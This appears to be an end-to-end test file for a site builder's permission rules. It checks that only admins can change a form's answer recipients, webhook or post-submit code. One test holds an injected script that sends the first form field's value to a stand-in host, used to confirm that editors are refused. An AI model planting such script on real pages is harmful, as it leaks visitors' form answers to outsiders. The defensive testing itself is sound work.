import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { section } from '../../../../e2e/support/blocks.ts'
import { formBlock } from '../../../../e2e/support/forms.ts'
import { type SiteWriter, siteWriter } from '../../../../e2e/support/pages.ts'
import { createTestApp, ENGINES, type TestApp } from '../../../../e2e/support/test-app.ts'
import type { StoredBlock } from '../../../core/block.ts'
import { ROLE } from '../../../core/codes.ts'
import { newId } from '../../../core/ids.ts'

const ADA = 'ada@esempio.it'
const BEA = 'bea@esempio.it'
const HOOK = 'https://servizio.example/risposte'
const asked = [{ type: 'email', id: 'email', title: 'E-mail' }]
const form = (more: object) => formBlock(asked, more)

describe.each(ENGINES)('where forms lead, for who may not change settings, on %s', (engine) => {
  let testApp: TestApp
  let siteId: string
  let ada: SiteWriter
  let bea: SiteWriter
  let pages = 0
  beforeAll(async () => {
    testApp = await createTestApp(engine)
    siteId = await testApp.createSite('bottega')
    ada = siteWriter(await testApp.signIn(ADA, { [siteId]: ROLE.admin }), siteId)
    bea = siteWriter(await testApp.signIn(BEA, { [siteId]: ROLE.editor }), siteId)
  })
  afterAll(() => testApp.close())

  const draftOf = async (id: string) => (await ada.get(id)).json()
  async function formsOf(id: string): Promise<StoredBlock[]> {
    const flatten = (blocks: readonly StoredBlock[]): StoredBlock[] =>
      blocks.flatMap((block) => [block, ...flatten(block.children ?? [])])
    return flatten((await draftOf(id)).content.blocks).filter(({ type }) => type === 'form')
  }
  const targetsOf = async (id: string) => (await formsOf(id)).map(({ props }) => [props.emails, props.webhook])
  async function change(who: SiteWriter, id: string, operations: unknown[]) {
    return await who.change(id, (await draftOf(id)).document.draftVersion, operations)
  }
  /** A page of the admin's with one form, whose column is returned too. */
  async function page(targets: object = { emails: [ADA, 'ufficio@esempio.it'], webhook: HOOK }) {
    const block = form(targets)
    const whole = section(block)
    const id = await ada.create({ urlId: `contatti-${++pages}`, blocks: [whole] })
    return { id, block, column: whole.children![0]!.id }
  }
  const refused = (answer: { status: number; json(): { reason?: string; code?: string } }) =>
    expect([answer.status, answer.json()]).toEqual([
      403,
      expect.objectContaining({
        reason: 'guarded_setting',
        error:
          'A chi arrivano le risposte di un modulo, e quale codice segue l’invio, lo decide chi amministra il sito: tu puoi cambiare il resto del modulo.',
      }),
    ])

  test('what a form asks can be changed, to whom its answers go cannot', async () => {
    const { id, block } = await page()
    const fields = [{ type: 'text', id: 'nome', title: 'Nome' }]
    expect((await change(bea, id, [{ op: 'update', id: block.id, props: { fields, name: 'Altro' } }])).status).toBe(200)
    const others = [
      { emails: [BEA] },
      { emails: [] },
      { emails: [ADA] },
      { webhook: 'https://mio.example' },
      { webhook: '' },
    ]
    for (const props of others) refused(await change(bea, id, [{ op: 'update', id: block.id, props }]))
    // Put back with its own id, in one request or two.
    const stolen = { ...block, props: { ...block.props, emails: [BEA] } }
    const { column } = { column: (await draftOf(id)).content.blocks[0].children[0].id }
    const back = { op: 'insert', parent: column, before: null, block: stolen }
    refused(await change(bea, id, [{ op: 'remove', id: block.id }, back]))
    expect((await change(bea, id, [{ op: 'remove', id: block.id }])).status).toBe(200)
    refused(await change(bea, id, [back]))
    expect((await change(ada, id, [{ ...back, block: stolen }])).status).toBe(200)
    expect((await change(ada, id, [{ op: 'update', id: block.id, props: { webhook: HOOK } }])).status).toBe(200)
  })

  test('the code after a form runs in its page with the answers: it is the admin’s, for newsletters too', async () => {
    const html =
      '<p>Grazie!</p><script>location = "https://mio.example/?" + document.forms[0].elements[0].value</script>'
    const newsletter = { id: newId(), type: 'newsletter', version: 1, props: {} }
    for (const block of [form({ emails: [ADA] }), newsletter]) {
      const id = await ada.create({ urlId: `dopo-${++pages}`, blocks: [section(block)] })
      const update = (who: SiteWriter, props: object) => change(who, id, [{ op: 'update', id: block.id, props }])
      refused(await update(bea, { after: 'html', html }))
      expect((await update(bea, { after: 'message' })).status).toBe(200)
      expect((await update(ada, { after: 'html', html })).status).toBe(200)
      refused(await update(bea, { html: '' }))
      const blocks = [section({ ...block, id: newId(), props: { ...block.props, after: 'html', html } })]
      const copy = await bea.create({ urlId: `dopo-${++pages}`, blocks })
      expect(JSON.stringify((await draftOf(copy)).content)).not.toContain('mio.example')
    }
  })

  test('a new form, a copy and a pasted one lead to an admin or nowhere', async () => {
    const { id, block, column } = await page()
    const insert = (one: StoredBlock) => change(bea, id, [{ op: 'insert', parent: column, before: null, block: one }])
    refused(await insert(form({ emails: [BEA] })))
    refused(await insert(form({ emails: [ADA, BEA] })))
    refused(await insert(form({ emails: [ADA], webhook: HOOK })))
    refused(await insert({ ...structuredClone(block), id: newId() }))
    refused(await insert(section(form({ webhook: 'https://mio.example' })).children![0]!.children![0]!))
    expect((await insert(form({ emails: [ADA] }))).status).toBe(200)
    expect((await insert(form({ emails: [] }))).status).toBe(200)
  })

  test('a removal can be undone, with the recipients that the form had when it was last there', async () => {
    const { id, block, column } = await page({ emails: [BEA], webhook: '' })
    expect(
      (await change(ada, id, [{ op: 'update', id: block.id, props: { emails: [ADA], webhook: HOOK } }])).status,
    ).toBe(200)
    const [now] = await formsOf(id)
    expect((await change(bea, id, [{ op: 'remove', id: block.id }])).status).toBe(200)
    const back = (one: StoredBlock) => change(bea, id, [{ op: 'insert', parent: column, before: null, block: one }])
    refused(await back({ ...now!, props: { ...now!.props, emails: [BEA], webhook: '' } }))
    expect((await back(now!)).status).toBe(200)
    expect(await targetsOf(id)).toEqual([[[ADA], HOOK]])
  })

  test('a restored version, or a block of it, keeps the recipients of today', async () => {
    const { id, block } = await page({ emails: [BEA], webhook: 'https://mio.example' })
    const named = await ada.call('POST', `/documents/${id}/revisions`, { name: 'Prima' })
    expect(named.status, named.body).toBe(201)
    const version = named.json().id
    await change(ada, id, [{ op: 'update', id: block.id, props: { emails: [ADA], webhook: HOOK, name: 'Oggi' } }])
    const restored = await bea.call('POST', `/documents/${id}/revisions/${version}/restoration`)
    expect(restored.status, restored.body).toBe(200)
    expect(await targetsOf(id)).toEqual([[[ADA], HOOK]])
    expect((await formsOf(id))[0]!.props.name).toBe('Prova')
    const one = await bea.call('POST', `/documents/${id}/revisions/${version}/blocks/${block.id}/restoration`)
    expect(one.status, one.body).toBe(200)
    expect(await targetsOf(id)).toEqual([[[ADA], HOOK]])
    // Also when the form is not there at the moment.
    await change(bea, id, [{ op: 'remove', id: block.id }])
    expect((await bea.call('POST', `/documents/${id}/revisions/${version}/restoration`)).status).toBe(200)
    expect(await targetsOf(id)).toEqual([[[ADA], HOOK]])
    expect((await ada.call('POST', `/documents/${id}/revisions/${version}/restoration`)).status).toBe(200)
    expect(await targetsOf(id)).toEqual([[[BEA], 'https://mio.example']])
  })

  test('a restored version does not bring back what the admin replaced before removing the form', async () => {
    const { id, block, column } = await page({ emails: [BEA], webhook: 'https://mio.example' })
    expect((await ada.publish(id)).status).toBe(200)
    const [first] = (await ada.call('GET', `/documents/${id}/revisions`)).json().revisions
    await change(ada, id, [{ op: 'update', id: block.id, props: { emails: [ADA], webhook: '' } }])
    expect((await change(ada, id, [{ op: 'remove', id: block.id }])).status).toBe(200)
    expect((await ada.publish(id)).status).toBe(200)
    refused(await change(bea, id, [{ op: 'insert', parent: column, before: null, block }]))
    const restored = await bea.call('POST', `/documents/${id}/revisions/${first.id}/restoration`)
    expect(restored.status, restored.body).toBe(200)
    expect(await targetsOf(id)).toEqual([[[ADA], '']])
    // Nor what they took away from it, whoever removes the form.
    await change(ada, id, [{ op: 'update', id: block.id, props: { emails: [] } }])
    expect((await change(bea, id, [{ op: 'remove', id: block.id }])).status).toBe(200)
    await bea.call('POST', `/documents/${id}/revisions/${first.id}/restoration`)
    expect(await targetsOf(id)).toEqual([[[], '']])
    // The version before a removal stays in the history, once.
    expect((await change(ada, id, [{ op: 'remove', id: block.id }])).status).toBe(200)
    const { revisions } = (await ada.call('GET', `/documents/${id}/revisions`)).json()
    const names = revisions.map(({ name }: { name: string | null }) => name).filter(Boolean)
    expect(names).toEqual(Array(2).fill('Prima di eliminare un modulo'))
  })

  test('new pages, kept sections and the templates of the product lead to an admin or nowhere', async () => {
    const blocks = [section(form({ emails: [BEA], webhook: 'https://mio.example' }))]
    expect(await targetsOf(await bea.create({ urlId: 'sua', blocks }))).toEqual([[[ADA], '']])
    expect(await targetsOf(await ada.create({ urlId: 'nostra', blocks }))).toEqual([[[BEA], 'https://mio.example']])
    for (const who of [bea, ada]) {
      const kept = await who.call('POST', '/own-templates', {
        kind: 'section',
        id: newId(),
        name: 'Modulo',
        content: { blocks },
      })
      expect(kept.status, kept.body).toBe(201)
    }
    const { sections } = (await ada.call('GET', '/own-templates/sections')).json()
    const leads = sections.map(({ blocks: [one] }: { blocks: StoredBlock[] }) => {
      const { emails, webhook } = one!.children![0]!.children![0]!.props
      return [emails, webhook]
    })
    expect(leads).toEqual([
      [[], ''],
      [[BEA], 'https://mio.example'],
    ])
    for (const [who, email] of [
      [bea, ADA],
      [ada, ADA],
    ] as const) {
      const templates = (await who.call('GET', '/templates')).body
      expect(templates).toContain(`"emails":["${email}"]`)
      expect(templates).not.toContain(BEA)
    }
  })

  test('an editor is told to whom new forms write, an admin is not held to it', async () => {
    const { id, block } = await page()
    const context = async (who: SiteWriter) => (await who.call('GET', `/editing-context?documentId=${id}`)).json()
    expect((await context(bea)).recipients).toEqual([ADA])
    expect((await context(ada)).recipients).toBeNull()
    expect((await bea.call('GET', `/forms/${block.id}/webhook-key`)).status).toBe(403)
  })

  test('a publication that changed the recipients is taken back by an admin only', async () => {
    const { id, block } = await page({ emails: [BEA], webhook: '' })
    expect((await ada.publish(id)).status).toBe(200)
    await change(ada, id, [{ op: 'update', id: block.id, props: { emails: [ADA] } }])
    const { publishRevision } = (await ada.publish(id)).json()
    const withdraw = (who: SiteWriter) => who.call('POST', `/publications/${publishRevision}/withdrawal`)
    const answer = await withdraw(bea)
    expect([answer.status, answer.json().error]).toEqual([
      403,
      'Annullare questa pubblicazione cambierebbe anche a chi arrivano le risposte di un modulo, o il codice che segue l’invio. Può farlo solo un amministratore.',
    ])
    expect((await withdraw(ada)).status).toBe(200)
  })

  describe('a withdrawal that puts a form online again', () => {
    const theirs = { emails: [BEA], webhook: 'https://mio.example' }
    const withdraw = (who: SiteWriter, answer: { json(): { publishRevision: number } }) =>
      who.call('POST', `/publications/${answer.json().publishRevision}/withdrawal`)
    const without = async (who: SiteWriter, id: string, blockId: string) => {
      await change(who, id, [{ op: 'remove', id: blockId }])
      return await who.publish(id)
    }

    test('is an admin’s if the form was removed and leads to others', async () => {
      const { id, block } = await page(theirs)
      await ada.publish(id)
      const removal = await without(ada, id, block.id)
      expect((await withdraw(bea, removal)).status).toBe(403)
      expect((await withdraw(ada, removal)).status).toBe(200)
    })

    test('is an admin’s if the page is not online and its draft leads elsewhere by now', async () => {
      const { id, block } = await page(theirs)
      const taken = await withdraw(ada, await ada.publish(id))
      expect(taken.status, taken.body).toBe(200)
      await change(ada, id, [{ op: 'update', id: block.id, props: { emails: [ADA] } }])
      expect((await withdraw(bea, taken)).status).toBe(403)
      expect((await withdraw(ada, taken)).status).toBe(200)
    })

    test('is an editor’s if the form leads to an admin, or as the draft that they may publish does', async () => {
      const ours = await page({ emails: [ADA], webhook: '' })
      await ada.publish(ours.id)
      expect((await withdraw(bea, await without(bea, ours.id, ours.block.id))).status).toBe(200)
      const other = await page(theirs)
      const taken = await withdraw(bea, await bea.publish(other.id))
      expect((await withdraw(bea, taken)).status).toBe(200)
    })
  })
})
